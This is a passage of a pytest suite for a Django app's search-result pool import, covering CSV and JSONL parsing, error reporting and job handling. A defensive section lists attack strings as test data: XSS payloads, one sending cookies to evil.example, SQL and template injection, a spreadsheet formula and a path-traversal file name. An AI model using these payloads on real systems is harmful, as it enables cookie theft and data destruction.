    assert PoolResult.objects.get().snippet == "Guanciale, pecorino, pepper."


@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_a_quoted_csv_snippet_keeps_its_line_breaks(project, import_file, newline):
    data = (
        f"{CSV_HEADER},snippet{newline}"
        f'{row("q-100", 1)},"First line{newline}second line"{newline}'
        f"{row('q-100', 2)},plain{newline}"
    ).encode()

    job = import_file(project, data, name="pool.csv")

    assert job.status == "succeeded", job.errors
    # Stored with a plain line feed either way, like every other text in evalconsole.
    assert list(PoolResult.objects.order_by("rank").values_list("snippet", flat=True)) == [
        "First line\nsecond line",
        "plain",
    ]


def test_a_quoted_line_break_does_not_throw_off_the_line_numbers(project, import_file):
    data = csv_file(
        CSV_HEADER + ",snippet",
        row("q-100", 1) + ',"one',
        'two"',
        row("q-100", 2) + ",x",
        row("q-100", 2, doc_id="v-3") + ",y",
    )

    job = import_file(project, data, name="pool.csv")

    assert job.errors == [error(5, "rank", "rank 2 appears twice")]


def test_rows_of_one_serp_split_apart_are_reported_as_such(seeded_project, import_file):
    data = csv_file(CSV_HEADER, row("q-100", 1), row("q-101", 1), row("q-100", 2))

    job = import_file(seeded_project, data, name="pool.csv")

    assert job.errors == [
        error(4, "query_id", 'query_id "q-100" is already at line 2; keep each SERP\'s rows together')
    ]


def test_a_duplicate_column_is_named(seeded_project, import_file):
    job = import_file(seeded_project, csv_file(CSV_HEADER + ",url", row() + ",https://video.example/v-1"), name="p.csv")

    assert [e["field"] for e in job.errors] == ["url"]


def test_a_tab_separated_file_is_read_by_its_tabs(project, import_file):
    data = csv_file(CSV_HEADER.replace(",", "\t"), row().replace(",", "\t"))

    job = import_file(project, data, name="pool.tsv")

    assert (job.status, job.errors) == ("succeeded", [])


def test_a_project_without_locales_takes_any_valid_tag(project, import_file):
    project.locales = []
    project.save()

    data = jsonl(serp("q-1", locale="zh-Hant-TW"), serp("q-2", locale="es-419"), serp("q-3", locale="en"))

    job = import_file(project, data)

    assert (job.status, job.errors) == ("succeeded", [])
    assert [s["locale"] for s in stored(project)] == ["zh-Hant-TW", "es-419", "en"]


def test_a_file_name_cannot_steer_where_the_upload_is_kept(
    project, owner, private_media, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False):
        job = upload(project, jsonl(serp("q-100")), owner, name="../../../etc/cron.d/evil.jsonl")

    assert job.params["file"].startswith(f"pool-uploads/{project.pk}-")
    assert job.params["file"].endswith(".jsonl")
    assert default_storage.exists(job.params["file"])
    assert default_storage.path(job.params["file"]).startswith(str(private_media))


def test_side_by_side_pairs_import_with_both_variants(sbs_project, import_file):
    data = jsonl(
        variant_serp("q-100", "baseline"),
        variant_serp("q-100", "experiment", results=[result(1, doc_id="v-9")]),
        variant_serp("q-101", "experiment", locale="de-DE"),
        variant_serp("q-101", "baseline", locale="de-DE"),
    )

    job = import_file(sbs_project, data)

    assert (job.status, job.result) == ("succeeded", {"serps": 4, "results": 7})
    assert [(s["query_id"], s["variant"], len(s["results"])) for s in stored(sbs_project)] == [
        ("q-100", "baseline", 2),
        ("q-100", "experiment", 1),
        ("q-101", "baseline", 2),
        ("q-101", "experiment", 2),
    ]


def test_side_by_side_pairs_import_from_csv(sbs_project, import_file):
    header = CSV_HEADER + ",variant"
    data = csv_file(
        header, row("q-100", 1) + ",baseline", row("q-100", 2) + ",baseline", row("q-100", 1) + ",experiment"
    )

    job = import_file(sbs_project, data, name="pool.csv")

    assert (job.status, job.result) == ("succeeded", {"serps": 2, "results": 3})


def test_a_later_file_adds_to_the_pool(seeded_project, import_file):
    job = import_file(seeded_project, jsonl(serp("q-100")))

    assert job.status == "succeeded"
    assert [s["query_id"] for s in stored(seeded_project)] == ["q-001", "q-002", "q-100"]


def test_an_import_touches_only_its_own_project(seeded_project, project, import_file, other_owner, published_version):
    from tests.projects.factories import ProjectFactory, serp_with_results

    elsewhere = ProjectFactory(owner=other_owner, guideline_version=published_version)
    serp_with_results(project=elsewhere, query_id="q-100")

    job = import_file(seeded_project, jsonl(serp("q-100")))

    assert job.status == "succeeded", job.errors
    assert PoolSerp.objects.filter(query_id="q-100").count() == 2


# --- Nothing in a file is executed or fetched ----------------------------------------------

PAYLOADS = [
    '<script>alert("pwned")</script>',
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=fetch("https://evil.example/"+document.cookie)>',
    "{{ settings.SECRET_KEY }} {% debug %}",
    "'; DROP TABLE projects_poolserp; --",
    '=HYPERLINK("https://evil.example","click")',
    "C:\\temp\\new\\table \\N \\. \t tab",
    "first line\n\\.\nafter an end-of-data marker",
    "‮ right-to-left override 🧨 日本語",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_and_tricks_in_text_are_stored_verbatim(project, import_file, payload):
    line = serp(
        "q-100",
        query=payload,
        category="x",
        results=[
            result(
                1,
                title=payload,
                snippet=payload,
                url='https://video.example/v-1?q=<script>alert(1)</script>&"x"',
                thumbnail_url="https://img.example/a.svg#<svg/onload=alert(1)>",
            )
        ],
    )

    job = import_file(project, jsonl(line))

    assert job.status == "succeeded", job.errors
    stored_result = PoolResult.objects.get()
    assert (PoolSerp.objects.get().query, stored_result.title, stored_result.snippet) == (payload, payload, payload)
    assert stored_result.url == 'https://video.example/v-1?q=<script>alert(1)</script>&"x"'
    assert stored_result.thumbnail_url == "https://img.example/a.svg#<svg/onload=alert(1)>"


def test_markup_in_a_csv_file_is_stored_verbatim(project, import_file):
    data = csv_file(CSV_HEADER + ",title", row() + ',"<script>alert(""x"")</script>"')

    job = import_file(project, data, name="pool.csv")

    assert job.status == "succeeded", job.errors
    assert PoolResult.objects.get().title == '<script>alert("x")</script>'


# --- The job --------------------------------------------------------------------------------


def test_the_uploaded_file_is_removed_once_imported(project, import_file):
    job = import_file(project, jsonl(serp("q-100")))

    assert job.params["file"].startswith("pool-uploads/")
    assert not default_storage.exists(job.params["file"])


def test_the_uploaded_file_is_removed_after_a_failed_import_too(project, import_file):
    job = import_file(project, jsonl(serp("q-100", query="")))

    assert job.status == "failed"
    assert not default_storage.exists(job.params["file"])


def test_the_job_records_what_was_uploaded(project, import_file, owner):
    data = jsonl(serp("q-100"))

    job = import_file(project, data, name="Pool March.JSONL")

    assert job.kind == "pool_import"
    assert job.created_by == owner
    assert {k: job.params[k] for k in ("project", "filename", "format", "size")} == {
        "project": project.pk,
        "filename": "Pool March.JSONL",
        "format": "jsonl",
        "size": len(data),
    }
    assert job.started_at is not None and job.finished_at >= job.started_at


def test_a_finished_job_run_again_does_nothing(seeded_project, import_file):
    job = import_file(seeded_project, jsonl(serp("q-100")))
    before = pool_state(seeded_project)

    assert services.pool_import_run(job_id=job.pk) is None

    assert pool_state(seeded_project) == before
    again = Job.objects.get(pk=job.pk)
    assert (again.status, again.finished_at, again.result) == ("succeeded", job.finished_at, job.result)


def test_the_same_file_uploaded_twice_adds_nothing_the_second_time(project, import_file):
    data = jsonl(serp("q-100"), serp("q-101"))
    first = import_file(project, data)
    after_first = pool_state(project)

    second = import_file(project, data)

    assert first.status == "succeeded"
    assert (second.status, second.errors) == (
        "failed",
        [
            error(1, "query_id", 'query_id "q-100" is already in the pool'),
            error(2, "query_id", 'query_id "q-101" is already in the pool'),
        ],
    )
    assert pool_state(project) == after_first


def queued_job(project, owner, data, django_capture_on_commit_callbacks):
    """An import job whose message is still on its way to a worker."""
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = upload(project, data, owner)
    assert len(callbacks) == 1
    return job


def test_a_job_claimed_by_a_worker_that_died_is_taken_over(
    project, owner, private_media, settings, django_capture_on_commit_callbacks
):
    job = queued_job(project, owner, jsonl(serp("q-100")), django_capture_on_commit_callbacks)
    long_ago = timezone.now() - timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT + 60)
    Job.objects.filter(pk=job.pk).update(status="running", started_at=long_ago)

    finished = services.pool_import_run(job_id=job.pk)

    assert (finished.status, finished.result) == ("succeeded", {"serps": 1, "results": 2})
    assert finished.started_at > long_ago
    assert PoolSerp.objects.filter(project=project).count() == 1


def test_a_job_another_worker_is_running_is_left_alone_until_its_time_is_up(
    project, owner, private_media, settings, django_capture_on_commit_callbacks
):
    job = queued_job(project, owner, jsonl(serp("q-100")), django_capture_on_commit_callbacks)
    started = timezone.now()
    Job.objects.filter(pk=job.pk).update(status="running", started_at=started)

    with pytest.raises(jobs.JobHeld) as held:
        services.pool_import_run(job_id=job.pk)

    assert held.value.retry_at == started + timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT)

    assert Job.objects.get(pk=job.pk).status == "running"
    assert not PoolSerp.objects.exists()
    assert default_storage.exists(job.params["file"])


def test_a_queued_job_waits_for_the_commit_before_it_runs(
    project, owner, private_media, django_capture_on_commit_callbacks
):
    job = queued_job(project, owner, jsonl(serp("q-100")), django_capture_on_commit_callbacks)

    assert Job.objects.get(pk=job.pk).status == "queued"
    assert not PoolSerp.objects.exists()


def test_a_big_file_is_written_in_batches_with_copy_on_postgresql(project, import_file):
    data = jsonl(*(serp(f"q-{n:05d}", results=[result(1), result(2)]) for n in range(2500)))

    with CaptureQueriesContext(connection) as queries:
        job = import_file(project, data)

    assert (job.status, job.result) == ("succeeded", {"serps": 2500, "results": 5000})
    assert PoolResult.objects.filter(serp__project=project).count() == 5000
    inserts = [q["sql"] for q in queries.captured_queries if 'INSERT INTO "projects_pool' in q["sql"]]
    if connection.vendor == "postgresql":
        # COPY goes around the ORM's query log: no row is INSERTed one statement at a time.
        assert inserts == []
    else:
        assert len(inserts) >= 2
